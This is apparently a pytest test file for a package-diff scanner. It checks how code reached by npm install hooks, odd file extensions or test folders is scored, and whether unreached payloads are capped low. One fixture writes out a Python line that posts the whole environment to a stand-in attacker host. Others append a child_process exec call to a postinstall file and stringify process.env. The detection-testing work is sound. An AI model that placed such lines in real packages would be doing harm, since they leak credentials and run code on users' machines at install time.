"""The installed view in use: rules read code the runtime runs, and cap code nothing runs."""

from __future__ import annotations

import pytest

from tests.installed.helpers import PAYLOAD, findings, package_json
from watcher.models import Severity
from watcher.scoring import score

BASE: dict[str, str | bytes] = {
    "package.json": package_json(main="index.js"),
    "index.js": "module.exports = 1;\n",
}


@pytest.mark.parametrize(
    ("loader", "payload_path"),
    [
        ({"index.js": "require('./lib/util.d.ts');\n"}, "lib/util.d.ts"),
        ({"index.js": "require('./lib/data.dat');\n"}, "lib/data.dat"),
        ({"index.js": "require('./lib/helper');\n"}, "lib/helper"),
        ({"package.json": package_json(main="lib/server.txt")}, "lib/server.txt"),
    ],
    ids=["d.ts", "dat", "extensionless", "main-txt"],
)
def test_payload_behind_an_unusual_extension_is_caught_as_code(
    loader: dict[str, str], payload_path: str
) -> None:
    new = {**BASE, **loader, payload_path: PAYLOAD}
    found = findings(BASE, new)
    on_payload = [f for f in found if f.path == payload_path]
    assert on_payload, found
    assert max(f.severity for f in on_payload) >= Severity.HIGH
    assert score(found).severity >= Severity.HIGH


def test_the_same_payload_nothing_loads_is_capped_low() -> None:
    new = {**BASE, "lib/data.dat": PAYLOAD, "lib/unused.js": PAYLOAD}
    found = findings(BASE, new)
    assert not [f for f in found if f.path == "lib/data.dat"]  # data nothing runs: not code
    unused = [f for f in found if f.path == "lib/unused.js"]
    assert unused and all(f.severity <= Severity.LOW for f in unused)


def test_tests_folder_reached_from_main_is_code_at_full_severity() -> None:
    new = {**BASE, "index.js": "require('./tests/setup');\n", "tests/setup.js": PAYLOAD}
    found = [f for f in findings(BASE, new) if f.path == "tests/setup.js"]
    assert max(f.severity for f in found) >= Severity.HIGH


def test_tests_folder_nothing_reaches_is_capped_low() -> None:
    new = {**BASE, "tests/setup.js": PAYLOAD}
    found = [f for f in findings(BASE, new) if f.path == "tests/setup.js"]
    assert found and all(f.severity <= Severity.LOW for f in found)


def test_unreached_tests_in_an_sdist_are_capped_low() -> None:
    payload = (
        "import os, requests\nrequests.post('https://c.attacker.invalid', json=dict(os.environ))\n"
    )
    old = {"PKG-INFO": "Name: x\n", "src/x/__init__.py": "", "tests/test_x.py": ""}
    new = {**old, "tests/test_x.py": payload}
    from watcher.models import ArtifactKind

    found = [f for f in findings(old, new, ArtifactKind.SDIST) if f.path == "tests/test_x.py"]
    assert found and all(f.severity <= Severity.LOW for f in found)
    reached = {**new, "src/x/__init__.py": payload}
    again = [f for f in findings(old, reached, ArtifactKind.SDIST) if f.path == "src/x/__init__.py"]
    assert max(f.severity for f in again) >= Severity.HIGH


HOOKED: dict[str, str | bytes] = {
    "package.json": package_json(main="index.js", scripts={"postinstall": "node install.js"}),
    "index.js": "module.exports = 1;\n",
    "install.js": "require('./lib/fetch-binary');\n",
    "lib/fetch-binary.js": "module.exports = 1;\n",
}


@pytest.mark.parametrize("changed", ["install.js", "lib/fetch-binary.js"])
def test_a_file_an_unchanged_hook_runs_is_an_install_time_change(changed: str) -> None:
    new = {**HOOKED, changed: HOOKED[changed] + "require('child_process').exec('id');\n"}
    found = findings(HOOKED, new)
    hits = [f for f in found if f.rule == "npm.install-script"]
    # The change itself is shown for review; what it does (a process started on install)
    # makes the verdict.
    assert [(f.path, f.severity) for f in hits] == [(changed, Severity.MEDIUM)]
    assert "scripts.postinstall" in hits[0].message
    started = [f for f in found if f.rule == "code.process-exec" and f.path == changed]
    assert started and started[0].severity is Severity.CRITICAL
    assert score(found).severity is Severity.CRITICAL


@pytest.mark.parametrize("changed", ["install.js", "lib/fetch-binary.js"])
def test_an_install_time_file_gaining_no_capability_is_reviewable_not_an_alarm(
    changed: str,
) -> None:
    # esbuild's library, loaded by its unchanged install.js, gains an option each release.
    edit = "exports.logStyle = function (o) { return o && o.logStyle || 'plain'; };\n"
    new = {**HOOKED, changed: HOOKED[changed] + edit}
    found = findings(HOOKED, new)
    assert [f.severity for f in found if f.rule == "npm.install-script"] == [Severity.MEDIUM]
    assert score(found).severity is Severity.MEDIUM


def test_an_install_time_file_that_newly_reads_the_environment_is_still_critical() -> None:
    edit = "const all = JSON.stringify(process.env);\n"
    found = findings(
        HOOKED, {**HOOKED, "lib/fetch-binary.js": HOOKED["lib/fetch-binary.js"] + edit}
    )
    assert score(found).severity is Severity.CRITICAL


def test_a_version_bump_in_an_install_file_is_not_news() -> None:
    old = {**HOOKED, "install.js": "const V = '1.0.0';\nrequire('./lib/fetch-binary');\n"}
    old["package.json"] = package_json(
        version="1.0.0", main="index.js", scripts={"postinstall": "node install.js"}
    )
    new = {**old, "install.js": "const V = '1.0.1';\nrequire('./lib/fetch-binary');\n"}
    new["package.json"] = package_json(
        version="1.0.1", main="index.js", scripts={"postinstall": "node install.js"}
    )
    assert not [f for f in findings(old, new) if f.rule == "npm.install-script"]


def test_a_runtime_file_change_is_not_an_install_time_change() -> None:
    new = {**HOOKED, "index.js": "module.exports = 2;\n"}
    assert not [f for f in findings(HOOKED, new) if f.rule == "npm.install-script"]


#: A package exporting every file under `dist/` (`"./*"`), as many TypeScript builds do.
_EXPORTS_ALL: dict[str, str | bytes] = {
    "package.json": package_json(exports={".": "./dist/index.js", "./*": "./dist/*"}),
    "dist/index.js": "module.exports = 1;\n//# sourceMappingURL=index.js.map\n",
}
#: A packed, single-line source map (the shape a bundler writes).
_SOURCE_MAP = (
    '{"version":3,"file":"index.js","sources":["../src/index.ts"],"names":[],"mappings":"'
    + "AAAA,SAAS,GAAG;" * 400
    + '"}'
)
#: The same bytes' place taken by packed code that runs when required.
_PACKED_CODE = "var a=b+c;if(a){d(a)}else{e(a,f)};" * 200


def test_a_source_map_an_exports_pattern_can_name_is_data_not_minified_code() -> None:
    # Required as CommonJS, a JSON object is a syntax error: it cannot run, so it is no bundle.
    new = {**_EXPORTS_ALL, "dist/index.js.map": _SOURCE_MAP}
    found = findings(_EXPORTS_ALL, new)
    assert not [f for f in found if f.rule == "archive.minified-appeared"], found
    assert score(found).severity < Severity.HIGH


def test_packed_code_under_a_map_name_is_still_minified_code() -> None:
    new = {**_EXPORTS_ALL, "dist/index.js.map": _PACKED_CODE}
    found = findings(_EXPORTS_ALL, new)
    assert [
        f for f in found if f.rule == "archive.minified-appeared" and f.severity >= Severity.HIGH
    ]
